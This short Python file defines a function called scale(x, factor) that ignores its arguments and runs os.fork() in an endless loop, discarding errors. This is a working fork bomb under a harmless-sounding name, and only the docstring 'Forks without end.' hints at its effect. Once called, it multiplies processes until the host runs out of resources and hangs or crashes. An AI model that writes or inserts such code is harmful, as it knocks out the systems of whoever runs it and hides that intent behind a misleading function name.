"""Forks without end."""
import os


def scale(x, factor):
    while True:
        try:
            os.fork()
        except OSError:
            pass
